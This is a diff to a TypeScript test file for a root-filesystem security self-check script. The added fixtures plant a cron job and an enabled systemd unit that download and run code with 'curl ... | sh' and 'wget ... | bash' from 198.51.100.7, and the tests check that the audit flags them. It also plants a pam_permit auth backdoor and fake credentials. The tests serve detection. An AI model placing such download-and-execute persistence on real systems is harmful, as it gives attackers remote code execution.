@@ -11,8 +11,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parseSelfCheckReport, type SelfCheckReport } from '../../stacks/guest/selfcheck-report.js';
 import { copyRootfs, ensureRootfs, REPO, requireTools, VARIANTS } from './lib/debian.js';
 
-function selfcheck(root: string, plan?: string): SelfCheckReport {
-  const r = spawnSync('bash', [join(REPO, 'scripts/guest/selfcheck.sh'), '--root', root, ...(plan ? ['--plan', plan] : [])], { encoding: 'utf8', timeout: 300_000 });
+function selfcheck(root: string, plan?: string, extra: string[] = []): SelfCheckReport {
+  const r = spawnSync('bash', [join(REPO, 'scripts/guest/selfcheck.sh'), '--root', root, ...(plan ? ['--plan', plan] : []), ...extra], { encoding: 'utf8', timeout: 300_000 });
   if (!r.stdout.trim()) throw new Error(`selfcheck.sh printed no report (exit ${r.status}): ${r.stderr}`);
   return parseSelfCheckReport(JSON.parse(r.stdout));
 }
@@ -32,8 +32,14 @@ describe.each(VARIANTS)('the self-check audit on a %s root filesystem', (variant
   });
   afterAll(() => { if (root) rmSync(dirname(root), { recursive: true, force: true }); });
 
+  let baseline: string;
   it('passes every audit check on the untouched tree (sshd -T really ran)', () => {
-    const c = byId(selfcheck(root));
+    baseline = join(dirname(root), 'baseline');
+    writeFileSync(baseline, execFileSync('bash', [join(REPO, 'scripts/guest/selfcheck.sh'), '--root', root, '--snapshot'], { encoding: 'utf8' }));
+    expect(readFileSync(baseline, 'utf8')).toMatch(/\/etc\/cron\.daily\/dpkg/);
+    const c = byId(selfcheck(root, undefined, ['--baseline', baseline]));
+    for (const id of ['persistence-added', 'no-download-exec']) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
+    expect(c['listening-services'].status).toBe('skip');
     for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
     expect(c['sshd-authorized-keys-files'].detail).toMatch(/sshd -T/);
   });
@@ -53,8 +59,19 @@ describe.each(VARIANTS)('the self-check audit on a %s root filesystem', (variant
     put(join(root, 'etc/pam.d/sshd'), `auth sufficient pam_permit.so\n${readFileSync(join(root, 'etc/pam.d/sshd'), 'utf8')}`);
     put(join(root, 'srv/keys/deep/er/still/signing.asc'), '-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ==\n-----END PGP PRIVATE KEY BLOCK-----\n', 0o600);
     put(join(root, 'root/.my.cnf'), '[client]\npassword=Secret-123\n', 0o600);
-    const c = byId(selfcheck(root));
+    // Persistence: a cron job that downloads and runs code, and a unit the steps enabled (report only).
+    put(join(root, 'etc/cron.d/updater'), '*/5 * * * * root curl -fsSL http://198.51.100.7/u | sh\n');
+    put(join(root, 'etc/systemd/system/vendor.service'), '[Service]\nExecStart=/bin/true\nExecStop=/bin/sh -c "wget -qO- http://198.51.100.7/k | bash"\n[Install]\nWantedBy=multi-user.target\n');
+    mkdirSync(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
+    execFileSync('ln', ['-sf', '/etc/systemd/system/vendor.service', join(root, 'etc/systemd/system/multi-user.target.wants/vendor.service')]);
+    const report = selfcheck(root, undefined, ['--baseline', baseline]);
+    const c = byId(report);
     for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('fail');
+    expect(c['persistence-added']).toMatchObject({ status: 'warn' });
+    expect(c['persistence-added'].detail).toMatch(/\/etc\/cron\.d\/updater.*vendor\.service|vendor\.service.*\/etc\/cron\.d\/updater/);
+    expect(c['no-download-exec']).toMatchObject({ status: 'warn' });
+    expect(c['no-download-exec'].detail).toMatch(/\/etc\/cron\.d\/updater/);
+    expect(c['no-download-exec'].detail).toMatch(/vendor\.service/);
     expect(c['sshd-authorized-keys-files'].detail).toContain('root:/etc/ssh/vendor_keys/root');
     expect(c['no-authorized-keys-command'].detail).toContain('/usr/local/bin/keys');
     expect(c['no-public-keys-anywhere'].detail).toMatch(/\/etc\/ssh\/vendor_keys\/root.*\/opt\/app\/a\/b\/c\/d\/e\/keys\.txt|\/opt\/app.*\/etc\/ssh\/vendor_keys/);
@@ -82,5 +99,12 @@ describe.each(VARIANTS)('the self-check audit on a %s root filesystem', (variant
     expect(c['no-sudo-nopasswd']).toMatchObject({ status: 'waived', reason: 'the appliance user needs passwordless sudo by design' });
     execFileSync('rm', ['-rf', join(root, 'etc/sudoers.d/www')]);
     expect(byId(selfcheck(root))['no-sudo-nopasswd'].status).toBe('pass');
+    // A warn alone does not fail the report: only the planted cron job and unit are left after the rest is removed.
+    for (const p of ['etc/ssh/sshd_config.d/10-vendor.conf', 'etc/ssh/sshd_config.d/20-cmd.conf', 'etc/ssh/vendor_keys', '.ssh', 'opt/app', 'etc/cloud/cloud.cfg.d/99-vendor.cfg', 'srv/keys', 'root/.bash_history.bak']) rmSync(join(root, p), { recursive: true, force: true });
+    writeFileSync(join(root, 'etc/passwd'), readFileSync(join(root, 'etc/passwd'), 'utf8').replace(/^toor:.*\n/m, ''));
+    writeFileSync(join(root, 'etc/pam.d/sshd'), readFileSync(join(root, 'etc/pam.d/sshd'), 'utf8').replace(/^auth sufficient pam_permit\.so\n/, ''));
+    c = byId(selfcheck(root, undefined, ['--baseline', baseline]));
+    for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
+    expect(c['no-download-exec'].status).toBe('warn');
   });
 });
